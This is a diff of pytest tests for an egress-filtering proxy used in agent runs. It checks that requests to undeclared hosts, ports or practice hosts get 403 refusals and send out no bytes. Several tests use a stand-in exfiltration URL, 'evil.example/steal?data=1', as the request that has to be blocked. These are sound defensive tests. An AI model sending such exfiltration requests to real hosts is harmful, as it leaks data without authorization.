@@ -86,26 +86,25 @@ def test_an_undeclared_host_is_refused_before_any_lookup(world: World) -> None:
     world.lookups.clear()
 
     with run.session() as session:
-        with pytest.raises(requests.exceptions.ProxyError, match="403 undeclared_host"):
-            session.get("https://evil.example/steal?data=1")
+        inside = session.get("https://evil.example/steal?data=1")
         plain = session.get("http://evil.example/steal?data=1")
     report = run.close()
 
     assert world.lookups == []
-    assert (plain.status_code, plain.json()["code"], plain.json()["host"]) == (
-        403,
-        "undeclared_host",
-        "evil.example",
-    )
+    for answer in (inside, plain):
+        assert (answer.status_code, answer.json()["code"], answer.json()["host"]) == (
+            403,
+            "undeclared_host",
+            "evil.example",
+        )
     tunnelled, direct = run.records
     assert tunnelled.undeclared
-    assert (tunnelled.verdict, tunnelled.host, tunnelled.port, tunnelled.method, tunnelled.path) == (
+    assert (tunnelled.verdict, tunnelled.url, tunnelled.method) == (
         "refused",
-        "evil.example",
-        443,
-        "",
-        "",
+        "https://evil.example/steal?data=1",
+        "GET",
     )
+    assert (tunnelled.bytes_out, direct.bytes_out) == (0, 0)
     assert (direct.reason, direct.method, direct.path) == ("undeclared_host", "GET", "/steal?data=1")
     assert [(usage.host, usage.refused, usage.requests) for usage in report.hosts] == [("evil.example", 2, 0)]
 
@@ -143,8 +142,11 @@ def test_a_request_outside_its_rule_never_reaches_the_host(
 def test_another_port_of_a_declared_host_is_refused(world: World) -> None:
     run = world.open()
 
-    with run.session() as session, pytest.raises(requests.exceptions.ProxyError, match="undeclared_port"):
-        session.get(f"https://{API}:{world.other.port}/")
+    before = len(world.other.seen.requests)
+    with run.session() as session:
+        answer = session.get(f"https://{API}:{world.other.port}/")
+    assert (answer.status_code, answer.json()["code"]) == (403, "undeclared_port")
+    assert len(world.other.seen.requests) == before
 
 
 def test_a_declared_host_at_a_metadata_address_is_refused(world: World) -> None:
@@ -314,8 +316,8 @@ def test_two_runs_do_not_trust_or_see_each_other(world: World) -> None:
         session.verify = two.ca_path
         with pytest.raises(requests.exceptions.SSLError):
             session.get(world.url())
-    with two.session() as session, pytest.raises(requests.exceptions.ProxyError):
-        session.get(world.url())
+    with two.session() as session:
+        assert session.get(world.url()).json()["code"] == "undeclared_host"
     one.close()
 
     assert [record.reason for record in one.records] == ["tls_failed"]
@@ -328,9 +330,11 @@ def test_the_practice_host_needs_a_rule_like_any_other(world: World) -> None:
 
     with run.session() as session:
         answer = session.get("https://practice.agentbuilder.test/shop-a/new")
-    with without.session() as session, pytest.raises(requests.exceptions.ProxyError):
-        session.get("https://practice.agentbuilder.test/shop-a/new")
+    with without.session() as session:
+        refused = session.get("https://practice.agentbuilder.test/shop-a/new")
     run.close()
+
+    assert refused.json()["code"] == "undeclared_host"
 
     assert "겨울 한정 머그 눈꽃" in answer.text
     assert (run.records[0].verdict, run.records[0].bytes_out) == ("practice", 0)
